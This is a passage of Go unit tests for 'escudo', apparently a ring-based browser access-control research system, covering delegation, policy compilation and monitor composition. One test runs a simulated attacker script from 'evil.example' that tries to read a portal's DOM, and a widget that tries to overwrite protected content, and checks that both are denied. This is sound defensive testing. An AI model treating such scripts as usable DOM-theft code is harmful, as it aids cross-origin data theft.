	if !strings.Contains(tbl, "S1") {
		t.Errorf("table = %q", tbl)
	}
	_ = Figure4AverageOverhead(rows)
}

// TestFacadeMashup drives the §7 extension through the public API.
func TestFacadeMashup(t *testing.T) {
	host := MustParseOrigin("http://portal.example")
	guest := MustParseOrigin("http://widget.example")
	pol := NewDelegationPolicy()
	pol.Delegate(Delegation{Host: host, Guest: guest, Floor: 2})
	m := &MashupMonitor{Policy: pol}

	slot := Object(host, 2, UniformACL(2), "slot")
	if d := m.Authorize(Principal(guest, 0, "w"), OpWrite, slot); !d.Allowed {
		t.Errorf("delegated write denied: %v", d)
	}
	app := Object(host, 1, UniformACL(1), "app")
	if d := m.Authorize(Principal(guest, 0, "w"), OpWrite, app); d.Allowed {
		t.Error("delegation must not reach ring 1")
	}
}

// TestFacadeConfigCompiler drives the §6.2 derivation through the
// public API.
func TestFacadeConfigCompiler(t *testing.T) {
	c := NewConfigCompiler()
	out, err := c.Compile([]AnnotatedFragment{
		{Kind: FragmentMarkup, ID: "app", Level: LevelApplication, Content: "x"},
		{Kind: FragmentCookie, ID: "sid", Level: LevelApplication},
	})
	if err != nil {
		t.Fatal(err)
	}
	if out.Config.Cookies["sid"].Ring != 1 {
		t.Errorf("derived cookie ring = %d", out.Config.Cookies["sid"].Ring)
	}
	if !strings.Contains(out.Body, "ring=1") {
		t.Errorf("body = %q", out.Body)
	}
	if LevelTrusted != 0 || LevelUntrusted != 3 {
		t.Error("level constants")
	}
}

// TestFacadeConstants pins the re-exported constants.
func TestFacadeConstants(t *testing.T) {
	if RingKernel != 0 || DefaultMaxRing != 3 {
		t.Error("ring constants")
	}
	if UniformACL(2) != (ACL{Read: 2, Write: 2, Use: 2}) {
		t.Error("UniformACL")
	}
	if !PermissiveACL(3).Permits(3, OpUse) {
		t.Error("PermissiveACL")
	}
}

// TestFacadeNewDefaultsMatchNewBrowser checks escudo.New with no
// options behaves exactly like the legacy constructor.
func TestFacadeNewDefaultsMatchNewBrowser(t *testing.T) {
	site := MustParseOrigin("http://app.example")
	build := func() *Network {
		net := NewNetwork()
		net.Register(site, HandlerFunc(func(req *Request) *Response {
			resp := HTMLResponse(`<div ring=1 r=1 w=1 x=1 id=app>hello</div>`)
			resp.Header.Set("X-Escudo-Maxring", "3")
			resp.Header.Add("Set-Cookie", "sid=tok; Path=/")
			resp.Header.Add("X-Escudo-Cookie", "sid; ring=1; r=1; w=1; x=1")
			return resp
		}))
		return net
	}
	oldB := NewBrowser(build(), BrowserOptions{Mode: ModeEscudo})
	newB, err := New(build())
	if err != nil {
		t.Fatal(err)
	}
	for _, b := range []*Browser{oldB, newB} {
		for i := 0; i < 2; i++ {
			if _, err := b.Navigate("http://app.example/"); err != nil {
				t.Fatal(err)
			}
		}
	}
	oldSeq, newSeq := oldB.Audit.All(), newB.Audit.All()
	if len(oldSeq) == 0 || !reflect.DeepEqual(oldSeq, newSeq) {
		t.Fatalf("audit sequences diverge (%d vs %d decisions)", len(oldSeq), len(newSeq))
	}
}

// TestComposeReproducesHardwiredStack is the facade-level equivalence
// matrix: for ERM and SOP, cached and uncached, the composed pipeline
// must reproduce the exact audit decision sequence and verdicts of the
// previous hard-wired Trace/TraceBatch stack.
func TestComposeReproducesHardwiredStack(t *testing.T) {
	site := MustParseOrigin("http://blog.example")
	other := MustParseOrigin("http://other.example")
	p := Principal(site, 1, "app")
	singles := []struct {
		op Op
		o  Context
	}{
		{OpRead, Object(site, 2, UniformACL(2), "post")},
		{OpWrite, Object(site, 0, UniformACL(0), "head")},
		{OpUse, Object(other, 1, UniformACL(1), "foreign")},
		{OpRead, Object(site, 2, UniformACL(2), "post")},
	}
	region := []Context{
		Object(site, 3, UniformACL(3), "c1"),
		Object(site, 3, UniformACL(3), "c2"),
		Object(site, 0, ACL{}, "k"),
	}
	drive := func(m Monitor) {
		for _, q := range singles {
			m.Authorize(p, q.op, q.o)
		}
		core.AuthorizeBatch(m, p, OpRead, region)
	}
	for _, tc := range []struct {
		name   string
		sop    bool
		cached bool
	}{{"erm-cached", false, true}, {"erm-uncached", false, false}, {"sop-cached", true, true}, {"sop-uncached", true, false}} {
		t.Run(tc.name, func(t *testing.T) {
			oldAudit, newAudit := &AuditLog{}, &AuditLog{}
			var oldM Monitor
			switch {
			case tc.cached && tc.sop:
				oldM = &core.CachedMonitor{Inner: &SOPMonitor{}, Cache: NewDecisionCache(), Trace: oldAudit.Record, TraceBatch: oldAudit.RecordAll}
			case tc.cached:
				oldM = &core.CachedMonitor{Inner: &ERM{}, Cache: NewDecisionCache(), Trace: oldAudit.Record, TraceBatch: oldAudit.RecordAll}
			case tc.sop:
				oldM = &SOPMonitor{Trace: oldAudit.Record, TraceBatch: oldAudit.RecordAll}
			default:
				oldM = &ERM{Trace: oldAudit.Record, TraceBatch: oldAudit.RecordAll}
			}
			var base Monitor = &ERM{}
			if tc.sop {
				base = &SOPMonitor{}
			}
			var cache MonitorLayer
			if tc.cached {
				cache = CacheLayer(NewDecisionCache())
			}
			drive(oldM)
			drive(Compose(base, cache, AuditLayer(newAudit)))
			oldSeq, newSeq := oldAudit.All(), newAudit.All()
			if len(oldSeq) == 0 || !reflect.DeepEqual(oldSeq, newSeq) {
				t.Fatalf("decision sequences diverge:\n old: %v\n new: %v", oldSeq, newSeq)
			}
		})
	}
}

// TestFacadePolicyRoundTrip exercises the unified document through the
// public API: construction, marshalling, lossless parse, validation
// failures.
func TestFacadePolicyRoundTrip(t *testing.T) {
	portal := MustParseOrigin("http://portal.example")
	pol := NewPolicy(portal, DefaultMaxRing)
	pol.Cookies["portalsession"] = UniformAssignment(1)
	pol.APIs["xmlhttprequest"] = 1
	pol.Delegate(MustParseOrigin("http://widget.example"), 2)

	data, err := pol.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	back, err := ParsePolicy(data)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(pol, back) {
		t.Fatalf("round trip diverges:\n in:  %+v\n out: %+v", pol, back)
	}
	bad := pol
	bad.MaxRing = 99999
	if err := bad.Validate(); err == nil {
		t.Fatal("out-of-range ring count validated")
	}
}

// TestFacadeMashupInBrowserAttack is the mashup-in-browser attack
// case: a delegated widget and a hostile script run inside a REAL
// session built by escudo.New(WithPolicy) — the §7 monitor mediates
// the page pipeline, confining the widget to its floor and shutting
// the undelegated attacker out entirely.
func TestFacadeMashupInBrowserAttack(t *testing.T) {
	portal := MustParseOrigin("http://portal.example")
	widget := MustParseOrigin("http://widget.example")
	evil := MustParseOrigin("http://evil.example")

	net := NewNetwork()
	net.Register(portal, HandlerFunc(func(req *Request) *Response {
		resp := HTMLResponse(`<html><body>` +
			`<div ring=1 r=1 w=1 x=1 id=chrome><h1 id=title>Portal</h1></div>` +
			`<div ring=2 r=2 w=2 x=2 id=slot>loading</div>` +
			`</body></html>`)
		resp.Header.Set("X-Escudo-Maxring", "3")
		resp.Header.Add("Set-Cookie", "portalsession=s3cr3t; Path=/")
		resp.Header.Add("X-Escudo-Cookie", "portalsession; ring=1; r=1; w=1; x=1")
		return resp
	}))

	pol := NewPolicy(portal, DefaultMaxRing)
	pol.Cookies["portalsession"] = UniformAssignment(1)
	pol.Delegate(widget, 2)

	b, err := New(net, WithPolicy(pol), WithDecisionCache(NewDecisionCache()))
	if err != nil {
		t.Fatal(err)
	}
	p, err := b.Navigate("http://portal.example/")
	if err != nil {
		t.Fatal(err)
	}

	// The delegated widget does its legitimate job...
	if err := p.RunScriptAs(Principal(widget, 0, "widget"),
		`document.getElementById("slot").innerHTML = "<p id=forecast>Sunny</p>";`); err != nil {
		t.Fatalf("delegated slot write failed: %v", err)
	}
	// ...but its overreach into ring-1 chrome fails the ring rule...
	if err := p.RunScriptAs(Principal(widget, 0, "widget"),
		`document.getElementById("title").innerHTML = "WEATHER CORP";`); err == nil {
		t.Fatal("floored widget rewrote ring-1 chrome")
	}
	// ...and the undelegated attacker cannot even read the slot.
	if err := p.RunScriptAs(Principal(evil, 3, "evil"),
		`var loot = document.getElementById("slot").innerHTML;`); err == nil {
		t.Fatal("undelegated origin read the portal DOM")
	}
	var sawRing, sawOrigin bool
	for _, d := range b.Audit.Denials() {
		switch d.Rule {
		case core.RuleRing:
			sawRing = true
		case core.RuleOrigin:
			sawOrigin = true
		}
	}
	if !sawRing || !sawOrigin {
		t.Fatalf("audit missing denial rules: ring=%v origin=%v", sawRing, sawOrigin)
	}
}

// TestFacadeCompilePolicy drives the §6.2 derivation into the unified
// document through the facade.
func TestFacadeCompilePolicy(t *testing.T) {
	o := MustParseOrigin("http://app.example")
	out, pol, err := CompilePolicy(NewConfigCompiler(), o, []AnnotatedFragment{
		{Kind: FragmentMarkup, ID: "app", Level: LevelApplication, Content: "x"},
		{Kind: FragmentCookie, ID: "sid", Level: LevelApplication},
	})
	if err != nil {
		t.Fatal(err)
	}
	if out.Config.Cookies["sid"].Ring != 1 || pol.Cookies["sid"].Ring != 1 {
		t.Fatalf("derivation diverges: cfg=%+v doc=%+v", out.Config.Cookies["sid"], pol.Cookies["sid"])
	}
	if err := pol.Validate(); err != nil {
		t.Fatal(err)
	}
}

// TestFacadeNewRejectsDelegationsUnderSOP pins the fail-loud guard: a
// delegation re-homed under the flat SOP baseline would grant the
// guest full same-origin privilege, so the combination must error.
func TestFacadeNewRejectsDelegationsUnderSOP(t *testing.T) {
	pol := NewPolicy(MustParseOrigin("http://portal.example"), DefaultMaxRing)
	pol.Delegate(MustParseOrigin("http://widget.example"), 2)
	if _, err := New(NewNetwork(), WithMode(ModeSOP), WithPolicy(pol)); err == nil {
		t.Fatal("New accepted delegations under ModeSOP")
	}
	// Delegation-free policies are fine under SOP (the document is
	// simply configuration data), whatever the option order.
	plain := NewPolicy(MustParseOrigin("http://portal.example"), DefaultMaxRing)
	plain.Cookies["sid"] = UniformAssignment(1)
	if _, err := New(NewNetwork(), WithPolicy(plain), WithMode(ModeSOP)); err != nil {
		t.Fatal(err)
	}
}
